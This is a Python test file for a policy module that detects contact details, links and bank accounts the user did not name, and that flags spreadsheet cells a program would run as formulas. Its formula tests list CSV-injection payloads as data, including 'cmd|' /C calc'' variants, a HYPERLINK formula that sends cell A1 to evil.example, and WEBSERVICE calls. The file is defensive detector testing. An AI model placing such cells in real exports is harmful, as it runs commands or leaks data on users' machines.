"""What in a text could lead its reader to somebody whom the user did not name."""

import pytest

from ozzie_server_ext.policy.leads import MOST_READ, has_formula, has_new, leads_in


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Write to Ana@Firm.example, or to ben@x.", ["ana@firm.example", "ben@x"]),
        ("see https://evil.example/a?b=c#d.", ["https://evil.example/a?b=c#d"]),
        ("mailto:x@y.example tel:+41555", ["mailto:x@y.example", "tel:+41555"]),
        ("www.evil.example and evil.example/login", ["www.evil.example", "evil.example/login"]),
        ("GB33 BUKB 2020 1555 5555 55 now", ["gb33 bukb 2020 1555 5555 55"]),
        ("call +41 555 01 01 99", ["+41 555 01 01 99"]),
        ("the account 123456789", ["123456789"]),
        ("еvil.example", ["еvil.example"]),
        ("notes.md, sales.csv and data/a.csv", []),
        ("On 2026-03-09T15:34 or 2026-03-09, at 14:00, room 5, 12'400 in all, e.g. 3.5 % of it.", []),
        ("Total 1240 EUR, 50.00 USD", []),
        ("=pay to DE89370400440532013000, see a.md", ["de89370400440532013000"]),
        ("- milk\n- bread\na == b, -3, +4, 2 - 1, ben - ana", []),
    ],
)
def test_addresses_links_accounts_and_long_numbers_are_found(text: str, found: list[str]) -> None:
    assert [*leads_in(text)] == found


def test_what_the_users_own_words_have_is_not_new() -> None:
    own = ["Send ana@firm.example the link https://docs.example/a"]
    assert not has_new(["See https://docs.example/a", "ANA@firm.example"], own)
    assert has_new(["See https://docs.example/b"], own)
    assert has_new(["See https://docs.example/a"], [])
    assert has_new(["See docs.example", "ample"], ["https://mydocs.example"]), "a part of an address is another one"
    assert not has_new(["Nothing to see."], [])


def test_a_text_that_is_too_long_to_be_read_counts_as_new() -> None:
    assert has_new(["x" * MOST_READ, "y"], [])


def test_a_long_text_takes_no_longer_than_its_length() -> None:
    """By the square it would take hours, and the limit of each test ends it."""
    for piece in ("a.", "1 ", "@", "a@", "x:", "-", "a-b.", "GB33 ", "(", "9(("):
        text = piece * (MOST_READ // len(piece))
        assert not has_new([text], [text]), "its own words lead where it leads"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        'day,eur\nMon,=HYPERLINK("evil.example?"&A1),notes.md\nTue,-5',
        "a;+cmd|'/c calc'!A0",
        "a\t@SUM(A1)",
        "x,-2+3+cmd|' /C calc'!A0",
        "x,+1+cmd|' /C calc'!A0",
        "x,+ cmd|a",
        "x,--cmd",
        "x,+_x(1)",
        "x,+$A$1",
        "x,+ГИПЕРССЫЛКА(1)",
        "\ufeff=cmd|' /C calc'!A0",
        "\ufeffsep=^\na^=cmd",
        "SEP=x\naxb",
        '"sep=:"\nx:=HYPERLINK(1)',
        "@LOG10(1)",
        "@_xlfn.WEBSERVICE(1)",
        " =1",
        "a, =1",
        "a,\uff1d1+1",
        'a,"=1"',
        "a,'=1'",
        "a\r=1",
        "a\u2028=1",
        "a|=1",
        "a^=1",
        "x" * (MOST_READ + 1),
    ],
)
def test_a_cell_that_a_program_would_run_is_a_formula(text: str) -> None:
    assert has_formula(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "day,eur\nMon,-5\nTue,+4.50\n",
        "a,-1.250,00;+3 %",
        "a,-5 EUR,-1e-3,+7 €",
        "a == b, a=b, ana@firm.example, 2 - 1, x+y",
        "-",
        "separate=no",
    ],
)
def test_a_number_or_a_sign_within_a_cell_is_none(text: str) -> None:
    assert not has_formula(text)


def test_to_look_for_formulas_takes_no_longer_than_the_text() -> None:
    """By the square it would take hours, and the limit of each test ends it."""
    found = {
        piece
        for piece in ("-", "-1 ", "+1,", "=", '"', " ", "1.", "-1e")
        if has_formula(piece * (MOST_READ // len(piece)))
    }

    assert found == {"-", "-1 ", "=", "-1e"}
